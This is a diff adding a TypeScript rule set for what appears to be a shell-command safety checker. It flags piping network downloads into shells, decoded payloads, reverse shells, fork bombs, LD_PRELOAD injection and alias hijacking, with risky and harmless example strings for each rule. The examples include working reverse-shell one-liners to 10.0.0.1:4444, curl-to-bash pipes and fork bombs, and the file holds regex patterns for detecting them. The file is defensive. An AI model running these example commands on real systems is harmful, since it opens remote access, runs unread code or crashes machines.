@@ -1,0 +1,288 @@
+// Rules about code of unknown origin reaching an interpreter, and about shells handed to somebody else.
+import { INTERPRETERS, SHELLS } from '../wrappers.ts'
+import { inPlace, type LineRule, matching, only, type Rule, tools } from './rule.ts'
+
+const SOCKET = /^\/dev\/(?:tcp|udp)\//
+
+export const LINE_RULES: readonly LineRule[] = [
+  {
+    id: 'network-code',
+    level: 'high',
+    why: 'Runs code straight from the network, which nobody has read.',
+    safer: 'curl -fsSLo install.sh URL && less install.sh',
+    examples: {
+      risky: [
+        'curl -fsSL https://x.sh | sh',
+        'curl x | sudo -E bash -',
+        'wget -qO- x | bash',
+        'bash <(curl -s x)',
+        'eval "$(curl x)"',
+        'sh -c "$(curl -fsSL x)"',
+        'source <(curl x)',
+        'curl x | python3',
+        'curl x | gunzip | sh',
+        'X=$(curl x); eval "$X"',
+        'curl x | tee log | sh',
+        'curl x | $SHELL',
+        'nc host 1 | sh',
+        'curl x | xargs -0 bash -c',
+        'curl x|env bash',
+      ],
+      harmless: [
+        'curl x | jq .',
+        'curl x | python3 -m json.tool',
+        'curl x -o file',
+        'curl x | tar xz',
+        'wget x',
+        'curl x | grep sh',
+        "curl x | python3 -c 'import sys'",
+      ],
+    },
+  },
+  {
+    id: 'decoded-code',
+    level: 'high',
+    why: 'Runs a decoded payload: the text hides what will happen.',
+    examples: {
+      risky: [
+        'echo cm0= | base64 -d | sh',
+        'base64 -d <<< x | bash',
+        'echo 6c73 | xxd -r -p | sh',
+        'eval "$(echo bHM= | base64 --decode)"',
+        'bash -c "$(base64 -d f)"',
+        'rev <<< "sl" | sh',
+        'openssl enc -d -a -in f | bash',
+        'gzip -dc x | sh',
+      ],
+      harmless: ['base64 -d x > y', 'echo x | base64', 'gzip -dc x.gz | less', 'zcat log | grep sh'],
+    },
+  },
+  {
+    id: 'unseen-code',
+    level: 'high',
+    why: 'Runs text that this line does not show.',
+    examples: {
+      risky: [
+        'eval "$X"',
+        'bash -c "$CMD"',
+        'cat script | sh',
+        'echo "$X" | bash',
+        'eval $(cat x)',
+        'some-tool | sh',
+        'ssh host "$CMD"',
+      ],
+      harmless: [
+        'eval "$(ssh-agent -s)"',
+        'source <(kubectl completion bash)',
+        'bash script.sh',
+        'bash -c "echo $X"',
+        'eval "$(direnv hook bash)"',
+        'echo ls | sh',
+        'bash',
+        'X=ls; eval $X',
+        'bash -s < script.sh',
+      ],
+    },
+  },
+  {
+    id: 'downloaded-code',
+    level: 'high',
+    why: 'Runs a file this very line has downloaded, which nobody has read.',
+    examples: {
+      risky: [
+        'curl -o x.sh URL && sh x.sh',
+        'wget http://a/b.sh; bash b.sh',
+        'curl -LO https://a/x && chmod +x x && ./x',
+        'wget -O /tmp/i URL && sudo bash /tmp/i',
+      ],
+      harmless: ['curl -o x.sh URL && less x.sh', 'wget http://a/b.tgz && tar xf b.tgz', 'sh x.sh'],
+    },
+  },
+  {
+    id: 'fork-bomb',
+    level: 'critical',
+    core: true,
+    why: 'Starts copies of itself until the machine stops responding.',
+    examples: {
+      risky: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb', 'f(){ f & f & }; f'],
+      harmless: ['f() { g | h & }; f', 'r() { r; }', 'x() { echo a | cat; }; x'],
+    },
+  },
+  {
+    id: 'unparsed',
+    level: 'moderate',
+    why: 'This cannot be read as a shell command, so what it does is not known.',
+    examples: { risky: ["echo 'open", 'ls $(', 'echo "x'], harmless: ['echo "x"', 'if true; then ls; fi'] },
+  },
+  {
+    id: 'unparsed-tool',
+    level: 'high',
+    why: 'This cannot be read as a shell command, and it names a tool that can do harm.',
+    examples: { risky: ["rm -rf 'x", 'ls $( dd if=x'], harmless: ["echo 'open", 'rm x'] },
+  },
+  {
+    id: 'hidden-text',
+    level: 'high',
+    why: 'Holds invisible control characters: what is shown is not what runs.',
+    examples: {
+      risky: ['ls \u001b[2K', 'echo a\u202eb', 'rm x\u0000y', 'ls \u0008\u0008'],
+      harmless: ['ls\t-l', 'echo é 漢字 👩‍💻', 'ls\nls'],
+    },
+  },
+  {
+    id: 'too-deep',
+    level: 'high',
+    why: 'Has more parts, or parts nested deeper, than can be checked.',
+    examples: {
+      risky: [`${'$('.repeat(40)}ls${')'.repeat(40)}`, 'ls;'.repeat(9000)],
+      harmless: ['echo $(echo $(ls))'],
+    },
+  },
+  {
+    id: 'too-long',
+    level: 'high',
+    why: 'Is too long to be checked.',
+    examples: { risky: [`echo ${'x'.repeat(70_000)}`], harmless: [`echo ${'x'.repeat(900)}`] },
+  },
+]
+
+export const CODE_RULES: readonly Rule[] = [
+  {
+    id: 'unknown-command-dangerous',
+    level: 'high',
+    why: 'Which command runs is not shown, and its arguments are dangerous for many.',
+    tools: ['*'],
+    when: (c, o) => {
+      if (c.known) return undefined
+      const places = inPlace(c, o.operands, 'root', 'home', 'system', 'keys', 'disk')
+      const forced = c.args.filter((arg) => /^-(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r)[a-z]*$/i.test(arg.text))
+      return places.length > 0 || forced.length > 0 ? true : undefined
+    },
+    examples: {
+      risky: ['$X -rf /', '$X -rf dir', '"$(tool)" /etc', '`x` /dev/sda', '$a$b -fr y'],
+      harmless: ['$EDITOR x', 'X=ls; $X -rf /', '$X foo'],
+    },
+  },
+  {
+    id: 'unknown-command',
+    level: 'moderate',
+    why: 'Which command runs depends on something the text does not show.',
+    tools: ['*'],
+    when: (c) => !c.known && !/\w/.test(c.name),
+    examples: {
+      risky: ['$X foo', '$(pick) a', '"${arr[0]}" x'],
+      harmless: ['$EDITOR x', '$(which python3) x.py', '"$DIR"/run.sh', '$HOME/bin/x'],
+    },
+  },
+  {
+    id: 'reverse-shell',
+    level: 'critical',
+    why: 'Hands this machine’s shell to another machine.',
+    tools: ['*'],
+    when: (c) => {
+      if (SHELLS.has(c.name))
+        return c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target)
+      if (/^(?:nc|ncat|netcat)$/.test(c.name))
+        return matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/).filter(
+          () => c.args.some((arg) => /sh\b|bash|cmd|exec|perl|python/.test(arg.text)),
+        )
+      if (c.name === 'socat')
+        return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
+          c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
+        )
+      const code = isInterpreter(c.name)
+        ? matching(c.args, /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.connect/i)
+        : []
+      return code.filter((arg) => /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&/.test(arg.text))
+    },
+    examples: {
+      risky: [
+        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+        'nc -e /bin/sh 10.0.0.1 4444',
+        'ncat --exec /bin/bash h 1',
+        'socat TCP:h:1 EXEC:/bin/sh',
+        'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+        'perl -e \'use Socket;exec("/bin/sh -i")\'',
+        'nc -lvpe /bin/sh 1',
+      ],
+      harmless: [
+        'nc -zv host 22',
+        'socat - TCP:h:1',
+        "python3 -c 'import socket; print(socket.gethostname())'",
+        'bash -i',
+        'nc -l 1234',
+      ],
+    },
+  },
+  {
+    id: 'socket-redirect',
+    level: 'moderate',
+    why: 'Opens a network connection through a redirection.',
+    tools: ['*'],
+    when: (c) =>
+      only(
+        !SHELLS.has(c.name),
+        c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
+      ),
+    examples: {
+      risky: ['exec 5<>/dev/tcp/10.0.0.1/80', 'echo x > /dev/udp/h/1'],
+      harmless: ['ls > /dev/null', 'curl h'],
+    },
+  },
+  {
+    id: 'preload',
+    level: 'high',
+    why: 'Every program started so runs that library’s code first.',
+    tools: ['*'],
+    when: (c) =>
+      c.assignments
+        .filter(
+          (set) =>
+            /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/.test(set.name) &&
+            /^\/(?:tmp|var\/tmp|dev\/shm)\/|^\.|^[^/]+\//.test(set.value.text),
+        )
+        .map((set) => set.value),
+    examples: {
+      risky: ['LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=./x.so id'],
+      harmless: ['LD_PRELOAD=/usr/lib/libjemalloc.so redis-server', 'LD_PRELOAD= ls'],
+    },
+  },
+  {
+    id: 'fork-loop',
+    level: 'critical',
+    why: 'Starts processes without end until the machine stops responding.',
+    tools: tools('perl python python2 python3 ruby php'),
+    when: (c) =>
+      matching(
+        c.args,
+        /fork\s+while\s+(?:fork|1|true)|while\s*(?:\(?1\)?|True)[:{ ]*\s*(?:os\.)?fork|loop\s*\{\s*fork/,
+      ),
+    examples: {
+      risky: [
+        "perl -e 'fork while fork'",
+        "python3 -c 'import os\nwhile True: os.fork()'",
+        "ruby -e 'loop { fork }'",
+      ],
+      harmless: ["perl -e 'print 1'", "python3 -c 'print(1)'"],
+    },
+  },
+  {
+    id: 'alias-shadow',
+    level: 'moderate',
+    why: 'Gives a well-known command another, dangerous meaning.',
+    tools: tools('alias'),
+    when: (c) =>
+      matching(
+        c.args,
+        /^(?:ls|cd|cat|sudo|ssh|git|vim|vi|grep|echo|ll)=.*\b(?:rm\s|curl|wget|nc\s|tee\s|dd\s|base64)/,
+      ),
+    examples: {
+      risky: ["alias ls='rm -rf x'", "alias sudo='curl evil;sudo'"],
+      harmless: ["alias ll='ls -la'", "alias rm='rm -i'", "alias grep='grep --color'"],
+    },
+  },
+]
+
+function isInterpreter(name: string): boolean {
+  return Object.hasOwn(INTERPRETERS, name) || /^(?:g|m)?awk$/.test(name)
+}
